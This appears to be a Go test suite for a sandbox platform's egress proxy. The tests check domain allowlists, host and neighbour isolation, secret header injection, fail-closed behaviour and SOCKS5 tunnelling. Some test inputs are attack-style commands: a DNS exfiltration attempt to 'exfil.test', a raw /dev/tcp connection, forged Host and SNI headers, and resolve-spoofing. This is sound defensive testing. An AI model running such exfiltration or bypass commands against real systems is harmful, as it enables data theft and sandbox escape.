package security

import (
	"context"
	"encoding/json"
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/cubby-dev/cubby/internal/testenv/testinternet"
	"github.com/cubby-dev/cubby/sdk"
)

// TestEgressDomainAllowlist: a sandbox allowed allowed.test and *.wild.test
// (everything else denied) reaches them over HTTP and HTTPS and nothing else,
// whatever root inside tries: other names (refused at DNS, and at the proxy
// when the address is forced), IP literals, raw TCP, a forged TLS server name
// or Host header, an allowed name pointed at another address. Queries for
// other names never leave the host. Decisions are logged and counted. Under
// runc and gVisor.
func TestEgressDomainAllowlist(t *testing.T) {
	for _, rt := range runtimes(t) {
		t.Run(rt, func(t *testing.T) {
			e := startEgress(t, "--runtime", rt)
			sbx := e.sandbox(t, domainPolicy("allowed.test", "*.wild.test"))
			checkAllowlist(t, e, sbx)
		})
	}
}

func checkAllowlist(t *testing.T, e *egressEnv, sbx *sdk.Sandbox) {
	allowed, denied := e.inet.Addr("allowed.test").String(), e.inet.Addr("denied.test").String()
	for _, url := range []string{"http://allowed.test/", "https://allowed.test/", "https://a.wild.test/", "http://a.b.wild.test/"} {
		if r := curl(t, sbx, url); r.Code != 0 || r.Status != "200" || echoServer(r.Body) == "" {
			t.Fatalf("%s: exit %d status %s: %s", url, r.Code, r.Status, r.Body)
		}
	}
	refusedFast(t, "https://denied.test", curl(t, sbx, "https://denied.test/"))
	refusedFast(t, "http://denied.test", curl(t, sbx, "http://denied.test/"))
	refusedFast(t, "denied.test forced to its address", curl(t, sbx, "--resolve denied.test:443:"+denied+" https://denied.test/"))
	refusedFast(t, "IP literal over HTTP", curl(t, sbx, "http://"+denied+"/"))
	refusedFast(t, "IP literal over TLS", curl(t, sbx, "-k https://"+denied+"/"))
	refusedFast(t, "raw TCP to the allowed host", curl(t, sbx, fmt.Sprintf("telnet://%s:%d", allowed, testinternet.RawPort)))
	refusedFast(t, "Host header of a denied name", curl(t, sbx, "-H 'Host: denied.test' http://allowed.test/"))
	refusedFast(t, "denied SNI at the allowed address", curl(t, sbx, "--resolve denied.test:443:"+allowed+" https://denied.test/"))
	// DNS answers are not trusted: the allowed name at another address still
	// goes to allowed.test, never to the address the sandbox chose.
	r := curl(t, sbx, "--resolve allowed.test:443:"+denied+" https://allowed.test/")
	if r.Code != 0 || echoServer(r.Body) != allowed {
		t.Errorf("allowed.test resolved by the sandbox to %s went to %q (exit %d)", denied, echoServer(r.Body), r.Code)
	}
	asRoot(t, sbx, "getent hosts leaked-data.exfil.test; nslookup -timeout=2 more-data.exfil.test 8.8.8.8 >/dev/null 2>&1; true")
	for _, name := range e.inet.Resolve.Asked() {
		if strings.Contains(name, "exfil") || strings.Contains(name, "denied") {
			t.Errorf("a query for %q left the host", name)
		}
	}
	time.Sleep(300 * time.Millisecond) // decisions reach the log in batches
	if !e.logHas(t, sbx.ID(), "egress denied", "denied.test") || !e.logHas(t, sbx.ID(), "egress allowed", "allowOut[0] allowed.test") {
		t.Error("the sandbox's logs lack its egress decisions")
	}
	if !e.logHas(t, sbx.ID(), "egress denied", fmt.Sprintf("%s:%d", allowed, testinternet.RawPort), "denyOut[0] 0.0.0.0/0") {
		_, logs := e.api(t, "GET", "/sandboxes/"+sbx.ID()+"/logs", "")
		t.Errorf("the raw TCP attempt (refused by nftables) is not in the sandbox's logs: %s", logs)
	}
	if e.metric(t, `cubby_egress_decisions_total{decision="deny",kind="tls"}`) < 1 {
		t.Error("no denied TLS decision counted")
	}
}

// TestEgressProxyBoundary: through the egress proxy a sandbox reaches neither
// the host, nor another sandbox, nor the proxy itself: allowed names that
// resolve to loopback, the gateway or a neighbour, allowed CIDRs covering
// them, and direct connections to the proxy's ports are all refused, while
// the neighbour keeps working. The proxy process listens on nothing but its
// steered ports.
func TestEgressProxyBoundary(t *testing.T) {
	e := startEgress(t)
	victim := e.sandbox(t, nil)
	victimIP := strings.TrimSpace(asRoot(t, victim, "hostname -I").Out)
	asRoot(t, victim, "nohup python3 -m http.server 80 >/dev/null 2>&1 &")
	e.inet.Resolve.Set("loop.test", mustAddr(t, "127.0.0.1"))
	e.inet.Resolve.Set("neighbour.test", mustAddr(t, victimIP))
	gw := gatewayOf(t, e)
	e.inet.Resolve.Set("gateway.test", mustAddr(t, gw))
	attacker := e.sandbox(t, &sdk.NetworkOptions{NetworkUpdate: sdk.NetworkUpdate{
		AllowOut: []string{"loop.test", "neighbour.test", "gateway.test", "allowed.test", e.Subnet, "127.0.0.0/8"},
		DenyOut:  []string{sdk.AllTraffic}}})
	for _, url := range []string{"http://loop.test/", "http://neighbour.test/", "http://gateway.test/", "https://neighbour.test/",
		"http://" + victimIP + "/", "-H 'Host: " + victimIP + "' http://allowed.test/", "http://" + gw + ":" + apiPort(e) + "/health"} {
		refusedFast(t, url, curl(t, attacker, url))
	}
	proxyPort, dnsPort := egressPorts(t, e)
	for _, port := range []string{proxyPort, dnsPort} {
		refusedFast(t, "the proxy's port "+port+" itself", curl(t, attacker, "http://"+gw+":"+port+"/"))
	}
	if r := curl(t, attacker, "http://allowed.test/"); r.Status != "200" {
		t.Fatalf("the attacker's allowed traffic broke: %+v", r)
	}
	if r := asRoot(t, victim, "curl -s -m 5 -o /dev/null -w '%{http_code}' http://127.0.0.1/"); r.Out != "200" {
		t.Fatalf("the victim's own server: %q", r.Out)
	}
	checkProxySockets(t, e, gw)
	e.healthy(t)
}

// checkProxySockets fails when the egress proxy process listens anywhere but
// on the gateway (no admin interface).
func checkProxySockets(t *testing.T, e *egressEnv, gw string) {
	pid := egressPID(t, e)
	out, err := exec.Command("ss", "-Htulnp").CombinedOutput()
	if err != nil {
		t.Fatalf("ss: %v %s", err, out)
	}
	n := 0
	for _, line := range strings.Split(string(out), "\n") {
		if !strings.Contains(line, fmt.Sprintf("pid=%d,", pid)) {
			continue
		}
		n++
		if !strings.Contains(line, " "+gw+":") {
			t.Errorf("the egress proxy listens outside the gateway: %s", line)
		}
	}
	if n != 3 {
		t.Errorf("the egress proxy has %d listening sockets, want 3 (proxy, DNS over UDP and TCP):\n%s", n, out)
	}
}

// TestEgressSecretNeverEntersSandbox: a rule adds Authorization: Bearer
// ${e2b.secrets.NAME} to HTTPS requests for echo.test; the echo server gets
// the value, while the sandbox never holds it: not in the echoed answer
// (masked), env, /proc, files, logs or any API response. Only this sandbox
// trusts the egress CA.
func TestEgressSecretNeverEntersSandbox(t *testing.T) {
	e := startEgress(t)
	const value = "sk-cubby-egress-3c9d1f7a"
	ctx := context.Background()
	if _, err := sdk.CreateSecret(ctx, e.conn(""), "openai", value, nil); err != nil {
		t.Fatalf("create secret: %v", err)
	}
	plain := e.sandbox(t, nil)
	sbx := e.sandbox(t, &sdk.NetworkOptions{NetworkUpdate: sdk.NetworkUpdate{
		AllowOut: []string{"echo.test"}, DenyOut: []string{sdk.AllTraffic},
		Rules: map[string][]sdk.NetworkRule{"echo.test": {{Headers: map[string]string{"Authorization": "Bearer " + sdk.SecretPlaceholder("openai")}}}}}})
	for _, user := range []string{"root", "user"} {
		r := run(t, sbx, user, "curl -sS -m 10 https://echo.test/headers; python3 -c \"import urllib.request as u; print(u.urlopen('https://echo.test/py').read().decode())\"")
		if r.Code != 0 || strings.Contains(r.Out, value) || !strings.Contains(r.Out, "Bearer "+strings.Repeat("*", len(value))) {
			t.Fatalf("as %s: exit %d: %s", user, r.Code, r.Out)
		}
	}
	seen := e.inet.Echo.Seen("echo.test")
	if len(seen) != 4 || seen[0].Get("Authorization") != "Bearer "+value {
		t.Fatalf("echo.test got %v", seen)
	}
	if r := asRoot(t, sbx, secretScan(t, value)); r.Code != 0 || !strings.HasPrefix(lastLine(r.Out), "clean") {
		t.Errorf("the secret is inside the sandbox: %s", r.Out)
	} else {
		t.Logf("secret scan: %s processes' memory read", lastLine(r.Out))
	}
	// The scan finds what is there: a canary in a file and in a process's env.
	asRoot(t, sbx, "echo canary-7e1b2c9d44 > /home/user/notes.txt; CANARY=canary-5f0a3e8b21 nohup sleep 60 >/dev/null 2>&1 &")
	for _, canary := range []string{"canary-7e1b2c9d44", "canary-5f0a3e8b21"} {
		if r := asRoot(t, sbx, secretScan(t, canary)); !strings.HasPrefix(lastLine(r.Out), "found") {
			t.Errorf("the scan missed canary %s: %s", canary, r.Out)
		}
	}
	if r := asRoot(t, sbx, "grep -c 'cubby egress CA' /etc/ssl/certs/ca-certificates.crt"); strings.TrimSpace(r.Out) != "2" {
		t.Errorf("the egress CA is not in the system bundle: %q", r.Out)
	}
	if r := asRoot(t, plain, "grep -c 'cubby egress CA' /etc/ssl/certs/ca-certificates.crt; ls /usr/local/share/ca-certificates"); !strings.HasPrefix(r.Out, "0") {
		t.Errorf("a sandbox without rules trusts the egress CA: %q", r.Out)
	}
	for _, path := range []string{"/sandboxes/" + sbx.ID(), "/sandboxes/" + sbx.ID() + "/logs", "/secrets", "/secrets/openai"} {
		if code, body := e.api(t, "GET", path, ""); code != 200 || strings.Contains(body, value) {
			t.Errorf("GET %s: %d, holds the value: %v", path, code, strings.Contains(body, value))
		}
	}
	if strings.Contains(e.Log(), value) {
		t.Error("the server log holds the secret")
	}
}

// secretScan is a command that looks for value in every file (but /proc,
// /sys, /dev), every process's environment, command line and readable memory
// (test/compat/scan.py, shared with the SDK suites); no command line holds
// the value (it is given in two halves). The last line is "clean <processes
// whose memory was read>" or what was found.
func secretScan(t *testing.T, value string) string {
	script, err := os.ReadFile("../compat/scan.py")
	if err != nil {
		t.Fatal(err)
	}
	half := len(value) / 2
	return fmt.Sprintf("python3 - '%s' '%s' <<'EOF'\n%s\nEOF", value[:half], value[half:], script)
}

// TestEgressUpdateCutsLiveConnections: PUT /sandboxes/{id}/network takes
// effect at once: a proxied HTTPS stream and a direct TCP stream to hosts the
// new policy denies are cut within seconds, new connections are refused,
// getInfo shows the new policy.
func TestEgressUpdateCutsLiveConnections(t *testing.T) {
	e := startEgress(t)
	allowed := e.inet.Addr("allowed.test").String()
	sbx := e.sandbox(t, domainPolicy("allowed.test", allowed))
	asRoot(t, sbx, "nohup curl -sN --cacert "+sandboxCA+" 'https://allowed.test/stream?n=900&ms=100' >/tmp/tls.out 2>&1 &"+
		" nohup curl -sN 'http://"+allowed+"/stream?n=900&ms=100' >/tmp/direct.out 2>&1 & sleep 2")
	lines := func() string {
		return strings.TrimSpace(asRoot(t, sbx, "wc -l < /tmp/tls.out; wc -l < /tmp/direct.out").Out)
	}
	before := lines()
	ctx := context.Background()
	if err := sbx.UpdateNetwork(ctx, sdk.NetworkUpdate{AllowOut: []string{"other.test"}, DenyOut: []string{sdk.AllTraffic}}); err != nil {
		t.Fatalf("UpdateNetwork: %v", err)
	}
	time.Sleep(2 * time.Second)
	cut := lines()
	time.Sleep(2 * time.Second)
	if after := lines(); after != cut || strings.HasPrefix(before, "0") || strings.HasSuffix(before, "\n0") {
		t.Fatalf("streams (lines before the update, 2 s and 4 s after): %q -> %q -> %q", before, cut, after)
	}
	if r := asRoot(t, sbx, "pgrep -c curl"); strings.TrimSpace(r.Out) != "0" {
		t.Errorf("curl still running (%s): its connections were not cut", r.Out)
	}
	refusedFast(t, "allowed.test after the update", curl(t, sbx, "https://allowed.test/"))
	if r := curl(t, sbx, "https://other.test/"); r.Status != "200" {
		t.Errorf("newly allowed other.test: %+v", r)
	}
	info, err := sbx.GetInfo(ctx)
	if err != nil || info.Network == nil || !slices.Equal(info.Network.AllowOut, []string{"other.test"}) {
		t.Fatalf("getInfo after the update: %+v %v", info, err)
	}
}

// TestEgressProxyCrashFailsClosed: when the egress proxy process dies, a
// sandbox limited to allowed.test reaches nothing (not even allowed.test)
// until the server has restarted it, and never anything else.
func TestEgressProxyCrashFailsClosed(t *testing.T) {
	e := startEgress(t)
	sbx := e.sandbox(t, domainPolicy("allowed.test"))
	if r := curl(t, sbx, "https://allowed.test/"); r.Status != "200" {
		t.Fatalf("before the crash: %+v", r)
	}
	denied := e.inet.Addr("denied.test").String()
	old := egressPID(t, e)
	if err := exec.Command("kill", "-9", fmt.Sprint(old)).Run(); err != nil {
		t.Fatal(err)
	}
	r := curl(t, sbx, "--resolve allowed.test:443:"+e.inet.Addr("allowed.test").String()+" https://allowed.test/ https://"+denied+"/ -k")
	refusedFast(t, "right after the crash", r)
	deadline := time.Now().Add(15 * time.Second)
	for {
		if r := curl(t, sbx, "https://allowed.test/"); r.Status == "200" {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("egress did not recover within 15 s of the crash")
		}
		time.Sleep(200 * time.Millisecond)
	}
	if egressPID(t, e) == old || e.metric(t, "cubby_egress_proxy_restarts_total") < 1 {
		t.Error("no restart of the egress proxy recorded")
	}
	refusedFast(t, "denied.test after recovery", curl(t, sbx, "https://denied.test/"))
}

// TestEgressSurvivesServerRestart: a server killed with SIGKILL takes its
// egress proxy with it (steered traffic is refused meanwhile); the restarted
// server adopts the sandbox with its whole policy: the allowlist, a header
// rule whose secret it unseals again, nothing more.
func TestEgressSurvivesServerRestart(t *testing.T) {
	e := startEgress(t)
	const value = "sk-restart-8b1f0c2d"
	if _, err := sdk.CreateSecret(context.Background(), e.conn(""), "restart", value, nil); err != nil {
		t.Fatal(err)
	}
	sbx := e.sandbox(t, &sdk.NetworkOptions{NetworkUpdate: sdk.NetworkUpdate{
		AllowOut: []string{"allowed.test", "echo.test"}, DenyOut: []string{sdk.AllTraffic},
		Rules: map[string][]sdk.NetworkRule{"echo.test": {{Headers: map[string]string{"X-Key": sdk.SecretPlaceholder("restart")}}}}}})
	old := egressPID(t, e)
	e.Kill9()
	if err := e.Restart(); err != nil {
		t.Fatalf("restart: %v", err)
	}
	if egressPID(t, e) == old {
		t.Fatal("the old egress proxy outlived its server")
	}
	if r := curl(t, sbx, "https://allowed.test/"); r.Status != "200" {
		t.Fatalf("allowed.test after the restart: %+v", r)
	}
	refusedFast(t, "denied.test after the restart", curl(t, sbx, "https://denied.test/"))
	if r := run(t, sbx, "root", "curl -sS -m 10 https://echo.test/"); r.Code != 0 || strings.Contains(r.Out, value) {
		t.Fatalf("echo.test after the restart: %+v", r)
	}
	seen := e.inet.Echo.Seen("echo.test")
	if len(seen) == 0 || seen[len(seen)-1].Get("X-Key") != value {
		t.Fatalf("the rule's secret after the restart: %v", seen)
	}
}

// TestEgressBadInput: a wrong pattern, CIDR or rule is a 400 naming the
// field, a rule naming a secret that does not exist is a 400 (never an empty
// header), and a valid config is taken.
func TestEgressBadInput(t *testing.T) {
	e := startEgress(t)
	for field, network := range map[string]string{
		"network.allowOut[1]":    `{"allowOut":["allowed.test","exa mple.com"],"denyOut":["0.0.0.0/0"]}`,
		"network.denyOut[0]":     `{"denyOut":["10.0.0.0/40"]}`,
		"network.denyOut[1]":     `{"denyOut":["0.0.0.0/0","example.com"]}`,
		`network.rules["*"]`:     `{"rules":{"*":[]}}`,
		"network.rules: secret":  `{"rules":{"echo.test":[{"transform":{"headers":{"Authorization":"Bearer ${e2b.secrets.nope}"}}}]}}`,
		"network.httpsPorts[0]":  `{"httpsPorts":[49983]}`,
		"network.egressProxy":    `{"egressProxy":{"address":"no-port"}}`,
		"network.allowOut":       `{"allowOut":["allowed.test"]}`,
		`transform.headers["Ho`:  `{"rules":{"echo.test":[{"transform":{"headers":{"Host":"x"}}}]}}`,
		"network.maskRequestHos": `{"maskRequestHost":"a b"}`,
	} {
		code, body := e.api(t, "POST", "/v2/sandboxes", `{"templateID":"base","network":`+network+`}`)
		var msg struct{ Message string }
		_ = json.Unmarshal([]byte(body), &msg)
		if code != 400 || !strings.Contains(msg.Message, field) {
			t.Errorf("%s: %d %s, want 400 naming %s", network, code, body, field)
		}
	}
	sbx := e.sandbox(t, domainPolicy("allowed.test", "*.wild.test", "198.18.0.0/15"))
	ctx := context.Background()
	err := sbx.UpdateNetwork(ctx, sdk.NetworkUpdate{Rules: map[string][]sdk.NetworkRule{"echo.test": {{Headers: map[string]string{"X": sdk.SecretPlaceholder("absent")}}}}})
	if err == nil || !strings.Contains(err.Error(), "absent") {
		t.Errorf("update with a missing secret: %v", err)
	}
	if r := curl(t, sbx, "http://allowed.test/"); r.Status != "200" {
		t.Errorf("a refused update changed the policy: %+v", r)
	}
}

// TestEgressUpstreamSOCKS5: with network.egressProxy the sandbox's allowed
// TCP is tunnelled through the SOCKS5 proxy (names sent as names, other TCP
// by address), denied traffic never reaches it, and a proxy that refuses the
// credentials fails closed.
func TestEgressUpstreamSOCKS5(t *testing.T) {
	e := startEgress(t)
	other := e.inet.Addr("other.test").String()
	proxy := &sdk.EgressProxy{Address: e.inet.SOCKS.String(), Username: "cubby", Password: "socks-pw"}
	sbx := e.sandbox(t, &sdk.NetworkOptions{NetworkUpdate: sdk.NetworkUpdate{
		AllowOut: []string{"allowed.test", other}, DenyOut: []string{sdk.AllTraffic}, EgressProxy: proxy}})
	if r := curl(t, sbx, "https://allowed.test/"); r.Status != "200" {
		t.Fatalf("through SOCKS5: %+v", r)
	}
	raw := asRoot(t, sbx, fmt.Sprintf("exec 3<>/dev/tcp/%s/%d && head -1 <&3", other, testinternet.RawPort))
	if !strings.Contains(raw.Out, "raw "+other) {
		t.Fatalf("raw TCP through SOCKS5: %q", raw.Out)
	}
	refusedFast(t, "denied.test", curl(t, sbx, "https://denied.test/"))
	targets := e.inet.Proxy.Targets()
	if !slices.Contains(targets, "allowed.test:443") || !slices.Contains(targets, fmt.Sprintf("%s:%d", other, testinternet.RawPort)) ||
		slices.ContainsFunc(targets, func(s string) bool { return strings.Contains(s, "denied") }) {
		t.Fatalf("SOCKS5 saw %v", targets)
	}
	info, err := sbx.GetInfo(context.Background())
	if err != nil || info.Network == nil || info.Network.EgressProxy == nil || info.Network.EgressProxy.Password != "" {
		t.Fatalf("getInfo egressProxy: %+v %v", info.Network, err)
	}
	bad := *proxy
	bad.Password = "wrong"
	if err := sbx.UpdateNetwork(context.Background(), sdk.NetworkUpdate{AllowOut: []string{"allowed.test"}, DenyOut: []string{sdk.AllTraffic}, EgressProxy: &bad}); err != nil {
		t.Fatal(err)
	}
	refusedFast(t, "with credentials the proxy refuses", curl(t, sbx, "https://allowed.test/"))
}

func mustAddr(t *testing.T, s string) netip.Addr {
	t.Helper()
	a, err := netip.ParseAddr(s)
	if err != nil {
		t.Fatalf("address %q: %v", s, err)
	}
	return a
}

// gatewayOf returns the server's gateway address (first host of its subnet).
func gatewayOf(t *testing.T, e *egressEnv) string {
	p := regexp.MustCompile(`^(\d+\.\d+\.\d+)\.0/\d+$`).FindStringSubmatch(e.Subnet)
	if p == nil {
		t.Fatalf("subnet %q", e.Subnet)
	}
	return p[1] + ".1"
}

// apiPort is the port of the server's API.
func apiPort(e *egressEnv) string { return e.Addr[strings.LastIndex(e.Addr, ":")+1:] }

// egressPorts reads the proxy's ports from the server log.
func egressPorts(t *testing.T, e *egressEnv) (string, string) {
	m := regexp.MustCompile(`egress proxy serving.*proxy_port=(\d+) dns_port=(\d+)`).FindAllStringSubmatch(e.Log(), -1)
	if m == nil {
		t.Fatal("no egress proxy ports in the server log")
	}
	last := m[len(m)-1]
	return last[1], last[2]
}

// egressPID returns the pid of the server's egress proxy process.
func egressPID(t *testing.T, e *egressEnv) int {
	out, _ := exec.Command("pgrep", "-f", "egress-proxy --netns /run/netns/"+e.Bridge+"-").Output()
	var pid int
	if _, err := fmt.Sscan(string(out), &pid); err != nil {
		t.Fatalf("no egress proxy process of %s: %q", e.Bridge, out)
	}
	return pid
}
